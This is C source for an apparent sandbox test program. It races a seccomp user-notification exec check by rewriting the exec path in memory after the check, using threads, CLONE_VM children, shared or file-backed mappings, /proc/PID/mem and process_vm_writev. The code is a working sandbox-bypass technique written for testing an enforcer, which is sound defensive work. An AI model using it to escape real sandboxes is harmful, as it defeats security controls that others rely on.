/* The path of an exec is rewritten between the check and the use.
 *
 * An enforcer that reads the path and then lets the kernel go on (SECCOMP_USER_NOTIF_FLAG_CONTINUE) checks one string, and
 * the kernel reads another: seccomp_unotify(2), "the target's memory may be changed by another thread". Freezing the
 * caller's threads does not help, because the writer may be another process.
 *
 *   exec-path-race MODE ALLOWED DENIED MARKER ROUNDS [SECONDS]
 * thread     a sibling thread writes          nonleader  the same, and the exec is made by a thread that is not the leader
 * pair       two threads exec at once, one the allowed program and one the flipping path
 * spawn      the caller is a CLONE_VM|CLONE_VFORK child (posix_spawn), a thread of its parent writes
 * clonevm    the caller is a CLONE_VM child, and its parent writes
 * shared     another process writes, through MAP_SHARED memory
 * file       another process writes, by write(2) to a file that the caller has mapped
 * procmem    another process writes, by /proc/PID/mem       vmwrite    the same, by process_vm_writev
 * nodump     as shared, and the caller is not dumpable      stopcont   as shared, under a storm of SIGSTOP and SIGCONT */
#include "attack.h"
#include <pthread.h>
#include <sched.h>
#include <sys/uio.h>

struct stage { _Atomic int round, flipping, done; _Atomic pid_t caller; };
static struct stage *stage;
static const char *mode, *allowed, *denied;
static char *path;                          /* what the caller execs, and the writer rewrites */
static char private_path[PATH_MAX] __attribute__((aligned(4096)));
static int backing = -1, memory = -1;
static size_t tail, pad;                    /* the first byte that differs, and where the path begins */
static int is(const char *m) { return !strcmp(mode, m); }

/* Both paths differ in a tail of 8 bytes at most when they lie in one directory: one store flips it. */
static void put(const char *wanted) {
    char *to = path + tail;
    size_t n = strlen(wanted) + 1 - tail;
    if (is("file")) { if (pwrite(backing, wanted + tail, n, (off_t)(pad + tail)) < 0) return; }
    else if (is("procmem")) { if (memory >= 0 && pwrite(memory, wanted + tail, n, (off_t)(uintptr_t)to) < 0) return; }
    else if (is("vmwrite")) {
        struct iovec local = { (char *)wanted + tail, n }, remote = { to, n };
        if (process_vm_writev(stage->caller, &local, 1, &remote, 1, 0) < 0) return;
    } else if (n <= 8) {
        uint64_t word = 0;
        memcpy(&word, wanted + tail, n);
        *(volatile uint64_t *)to = word;
    } else memcpy(to, wanted + tail, n);
}

/* The writer: in even rounds one strike at a moment that moves, in odd rounds flips without end. */
static void *writer(void *unused) {
    (void)unused;
    for (int seen = 0; !stage->done;) {
        int round = stage->round;
        if (round == 0 || round == seen) { __asm__ volatile("pause"); continue; }
        seen = round;
        if (is("procmem")) {
            char name[64];
            snprintf(name, sizeof name, "/proc/%d/mem", stage->caller);
            memory = open(name, O_RDWR | O_CLOEXEC);
        }
        if (round % 2 == 0) { spin_ns(moment_of(round)); put(denied); }
        else for (unsigned n = (unsigned)round; stage->round == round && !stage->done; n = n * 1103515245 + 12345) {
            put(denied);
            stage->flipping = round;
            spin_ns(n >> 8 & 8191);
            put(allowed);
            spin_ns(n >> 12 & 8191);
        }
        while (stage->round == round && !stage->done) {
            if (is("stopcont")) { kill(stage->caller, SIGSTOP); kill(stage->caller, SIGCONT); }
            __asm__ volatile("pause");
        }
        if (memory >= 0) { close(memory); memory = -1; }
    }
    return NULL;
}

static void *go(void *which) {
    char *argv[] = { (char *)(which ? which : path), (char *)attack_marker, NULL };
    execve(argv[0], argv, environ);
    return NULL;
}

static int round_number;
static int caller(void *unused) {
    pthread_t thread, second;
    (void)unused;
    stage->caller = (pid_t)syscall(SYS_getpid);
    int threads = is("thread") || is("nonleader") || is("pair");
    if (threads) pthread_create(&thread, NULL, writer, NULL);
    if (is("nodump")) prctl(PR_SET_DUMPABLE, 0);
    stage->round = round_number;
    for (int64_t late = now_ns() + 1000000; round_number % 2 && stage->flipping != round_number && now_ns() < late;) __asm__ volatile("pause");
    if (is("nonleader")) { pthread_create(&second, NULL, go, NULL); pthread_join(second, NULL); }
    else if (is("pair")) { pthread_create(&second, NULL, go, (void *)allowed); go(NULL); pthread_join(second, NULL); }
    else go(NULL);
    syscall(SYS_exit_group, REFUSED);
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 6) skip("usage: MODE ALLOWED DENIED MARKER ROUNDS [SECONDS]");
    mode = argv[1], allowed = argv[2], denied = argv[3];
    use_marker(argv[4]);
    int rounds = atoi(argv[5]), seconds = argc > 6 ? atoi(argv[6]) : 3;
    bound((unsigned)seconds + 2);
    stage = shared_page(sizeof *stage);
    while (allowed[tail] && allowed[tail] == denied[tail]) tail++;
    path = private_path;
    if (is("shared") || is("nodump") || is("stopcont")) path = shared_page(PATH_MAX);
    if (is("file")) {
        char name[] = "/tmp/attack-path-XXXXXX";
        backing = mkstemp(name);
        unlink(name);
        path = ftruncate(backing, PATH_MAX) ? MAP_FAILED : mmap(NULL, PATH_MAX, PROT_READ | PROT_WRITE, MAP_SHARED, backing, 0);
        if (path == MAP_FAILED) skip("cannot map a file in /tmp");
    }
    path += pad = 8 - tail % 8; /* so that the tail is aligned */

    pthread_t thread;
    pid_t helper = 0;
    int by_thread = is("spawn") || is("clonevm"), of_its_own = is("thread") || is("nonleader") || is("pair");
    if (by_thread) pthread_create(&thread, NULL, writer, NULL);
    else if (!of_its_own && !(helper = fork_bounded())) { writer(NULL); _exit(0); }

    struct tally tally = { 0 };
    static char stack[65536] __attribute__((aligned(16)));
    int64_t until = now_ns() + seconds * 1000000000LL;
    for (round_number = 1; round_number <= rounds && now_ns() < until && !marker_exists(); round_number++) {
        strcpy(path, allowed);
        int flags = SIGCHLD | (by_thread ? CLONE_VM : 0) | (is("spawn") ? CLONE_VFORK : 0);
        pid_t pid = by_thread ? clone(caller, stack + sizeof stack, flags, NULL) : fork_bounded();
        if (pid == 0) caller(NULL);
        count(&tally, reap(pid));
        stage->round = 0;
    }
    stage->done = 1;
    if (helper) reap(helper);
    conclude(&tally, mode);
}
